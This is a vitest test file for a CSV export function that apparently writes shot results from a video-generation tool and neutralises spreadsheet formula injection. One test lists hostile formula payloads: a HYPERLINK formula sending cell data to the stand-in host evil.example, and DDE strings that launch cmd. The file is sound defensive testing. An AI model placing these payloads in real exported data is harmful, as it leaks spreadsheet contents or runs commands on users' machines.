import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { exportResultsCsv, neutraliseCell, RESULT_COLUMNS, type ResultRow } from '../../main/report/export-csv';

const base: ResultRow = { shot: '1', row: 2, prompt: 'a lighthouse at dawn', provider: 'preview', state: 'succeeded', take: 1, clip: 'clips/shot-1-take1.mp4', estimate: 0.12, actual: 0.1, error: null };
const roundTrip = (rows: ResultRow[]) => parse(exportResultsCsv(rows)) as string[][];

describe('exportResultsCsv', () => {
  it('writes the header and one record per shot, CRLF, cells with commas, quotes and new lines quoted', () => {
    const csv = exportResultsCsv([base, { ...base, shot: '2', row: 3, prompt: 'He said "hi, there"\nthen left', take: null, clip: null, estimate: null, actual: null, error: 'provider said: bad, request' }]);
    expect(csv.startsWith('shot,row,prompt,provider,state,take,clip,estimate,actual,error\r\n')).toBe(true);
    const rows = parse(csv) as string[][];
    expect(rows[0]).toEqual([...RESULT_COLUMNS]);
    expect(rows[1]).toEqual(['1', '2', 'a lighthouse at dawn', 'preview', 'succeeded', '1', 'clips/shot-1-take1.mp4', '0.12', '0.1', '']);
    expect(rows[2]).toEqual(['2', '3', 'He said "hi, there"\nthen left', 'preview', 'succeeded', '', '', '', '', 'provider said: bad, request']);
  });

  it('neutralises text cells that a spreadsheet would run as formulas', () => {
    const prompts = [
      '=HYPERLINK("http://evil.example/?"&A1,"click")',
      '@SUM(1)',
      "+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      '\t=1+1',
      '\r=1+1',
      '  =1+1',
      '\uFF1D1+1',
    ];
    const rows = roundTrip(prompts.map((prompt, i) => ({ ...base, shot: String(i + 1), prompt })));
    expect(rows.slice(1).map((r) => r[2])).toEqual(prompts.map((p) => `'${p}`));
    expect(rows[1][2]).toBe('\'=HYPERLINK("http://evil.example/?"&A1,"click")');
    expect(rows[2][2]).toBe("'@SUM(1)");
  });

  it('neutralises every text column (shot, provider, state, clip, error), not just the prompt', () => {
    const rows = roundTrip([{ ...base, shot: '-1', provider: '@evil', state: '=1', clip: '+x', error: '-boom' }]);
    expect(rows[1]).toEqual(["'-1", '2', base.prompt, "'@evil", "'=1", '1', "'+x", '0.12', '0.1', "'-boom"]);
  });

  it('keeps numbers as numbers: a negative amount is not prefixed; NaN and Infinity are empty', () => {
    const csv = exportResultsCsv([{ ...base, estimate: -1, actual: -0.25 }, { ...base, estimate: 0.1 + 0.2, actual: Number.NaN, take: Number.POSITIVE_INFINITY }]);
    const rows = parse(csv) as string[][];
    expect(rows[1].slice(7, 9)).toEqual(['-1', '-0.25']);
    expect(csv).toContain(',-1,-0.25,');
    expect(rows[2].slice(5, 9)).toEqual(['', 'clips/shot-1-take1.mp4', '0.3', '']);
  });

  it('neutralises text smuggled into a number column past the type', () => {
    const rows = roundTrip([{ ...base, estimate: '=1+1' as unknown as number }]);
    expect(rows[1][7]).toBe("'=1+1");
  });

  it('can start with a UTF-8 byte-order mark for Excel', () => {
    expect(exportResultsCsv([base], { bom: true }).startsWith('\uFEFFshot,')).toBe(true);
    expect(exportResultsCsv([base]).startsWith('shot,')).toBe(true);
  });

  it('property: no text cell of the output can start a formula, and the text survives behind the quote', () => {
    const text = fc.oneof(fc.string({ maxLength: 20 }), fc.string({ unit: 'grapheme', maxLength: 10 }), fc.constantFrom('=', '+', '-', '@', '\t', '\r', ' =', '\uFF20'));
    fc.assert(
      fc.property(fc.array(fc.record({ shot: text, prompt: text, provider: text, state: text, clip: text, error: text, estimate: fc.double({ noNaN: false }) }), { minLength: 1, maxLength: 5 }), (recs) => {
        const rows = recs.map((r) => ({ ...base, ...r }));
        const parsed = parse(exportResultsCsv(rows), { relax_column_count: false }) as string[][];
        expect(parsed).toHaveLength(rows.length + 1);
        parsed.slice(1).forEach((cells, i) => {
          for (const col of ['shot', 'prompt', 'provider', 'state', 'clip', 'error'] as const) {
            const cell = cells[RESULT_COLUMNS.indexOf(col)];
            expect(/^[ ]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|^[\t\r]/.test(cell)).toBe(false);
            expect(cell === rows[i][col] || cell === `'${rows[i][col]}`).toBe(true);
          }
          const est = cells[RESULT_COLUMNS.indexOf('estimate')];
          expect(est === '' || Number.isFinite(Number(est))).toBe(true);
        });
      }),
      { seed: 7, numRuns: 300 },
    );
  });

  it('neutraliseCell leaves ordinary text alone', () => {
    expect(neutraliseCell('a cat')).toBe('a cat');
    expect(neutraliseCell('')).toBe('');
    expect(neutraliseCell('1-2')).toBe('1-2');
    expect(neutraliseCell("'already quoted")).toBe("'already quoted");
  });
});
